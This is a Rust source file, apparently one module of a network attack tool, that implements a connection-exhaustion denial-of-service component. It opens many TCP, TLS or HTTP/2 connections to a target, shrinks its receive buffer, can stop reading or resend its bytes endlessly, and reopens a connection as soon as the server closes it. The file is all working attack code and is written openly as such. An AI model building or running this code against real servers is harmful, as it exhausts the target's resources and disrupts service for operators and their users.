//! Connections that are opened and kept, at the cost of whoever accepts them.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;

use super::attack::Counts;
use crate::server::wire::Target;

/// Connections that are being opened at a time.
const OPENING_LIMIT: usize = 32;
/// Time before a connection that the server closed is opened again.
const PAUSE: Duration = Duration::from_secs(1);
/// The receive buffer of one that does not read; the kernel doubles it.
const RECEIVE_BYTES: u32 = 4096;

/// The protocol up to which a connection is set up.
#[derive(Clone, Copy, Debug)]
pub(super) enum Opening {
    Tcp,
    Tls,
    /// TLS, with HTTP/2 agreed on.
    Http2,
}

/// The behaviour of a connection after its bytes are sent.
#[derive(Clone, Copy, Debug)]
enum Behaviour {
    /// Reads and drops what comes.
    Read,
    /// Reads nothing.
    Keep,
    /// Reads nothing, and sends its bytes again for as long as they are taken.
    Repeat,
}

/// A connection that is kept.
#[derive(Clone, Debug)]
pub(super) struct Hold {
    opening: Opening,
    bytes: Arc<[u8]>,
    behaviour: Behaviour,
}

impl Hold {
    /// Sends these bytes and waits until the server closes.
    pub(super) fn new(opening: Opening, bytes: Arc<[u8]>) -> Self {
        Self {
            opening,
            bytes,
            behaviour: Behaviour::Read,
        }
    }

    /// Sends these bytes again and again, and reads nothing.
    pub(super) fn unread(opening: Opening, bytes: Arc<[u8]>) -> Self {
        Self {
            behaviour: Behaviour::Repeat,
            ..Self::new(opening, bytes)
        }
    }

    /// Sends these bytes and reads nothing.
    pub(super) fn unread_once(opening: Opening, bytes: Arc<[u8]>) -> Self {
        Self {
            behaviour: Behaviour::Keep,
            ..Self::new(opening, bytes)
        }
    }

    /// Returns true if HTTP/2 is agreed on.
    pub(super) fn is_http2(&self) -> bool {
        matches!(self.opening, Opening::Http2)
    }

    /// Opens the connection, and again when it was lost.
    pub(super) async fn run(self, target: Target, opening: Arc<Semaphore>, counts: Counts) {
        loop {
            // An error is what the server is expected to answer with.
            let _ = self.open(&target, &opening, &counts).await;
            counts.lost();
            tokio::time::sleep(PAUSE).await;
        }
    }

    /// Permits for those that open connections.
    pub(super) fn permits() -> Arc<Semaphore> {
        Arc::new(Semaphore::new(OPENING_LIMIT))
    }

    async fn open(
        &self,
        target: &Target,
        opening: &Semaphore,
        counts: &Counts,
    ) -> anyhow::Result<()> {
        let permit = opening.acquire().await?;
        let socket = self.connect(target).await?;
        if matches!(self.opening, Opening::Tcp) {
            counts.opened();
            drop(permit);
            return self.keep(socket, counts).await;
        }
        // A slow handshake must not keep the others from opening.
        let stream = tokio::time::timeout(PAUSE, target.secure(socket)).await??;
        counts.opened();
        drop(permit);
        self.keep(stream, counts).await
    }

    async fn connect(&self, target: &Target) -> anyhow::Result<TcpStream> {
        let address = target.address().parse().context("an address and a port")?;
        let socket = TcpSocket::new_v4()?;
        if !matches!(self.behaviour, Behaviour::Read) {
            socket.set_recv_buffer_size(RECEIVE_BYTES)?;
        }
        Ok(tokio::time::timeout(PAUSE, socket.connect(address)).await??)
    }

    async fn keep(
        &self,
        mut stream: impl AsyncRead + AsyncWrite + Unpin,
        counts: &Counts,
    ) -> anyhow::Result<()> {
        loop {
            stream.write_all(&self.bytes).await?;
            stream.flush().await?;
            counts.sent(1);
            match self.behaviour {
                Behaviour::Repeat => {}
                Behaviour::Keep => std::future::pending().await,
                Behaviour::Read => {
                    let mut buffer = [0; 4096];
                    while stream.read(&mut buffer).await? > 0 {}
                    return Ok(());
                }
            }
        }
    }
}
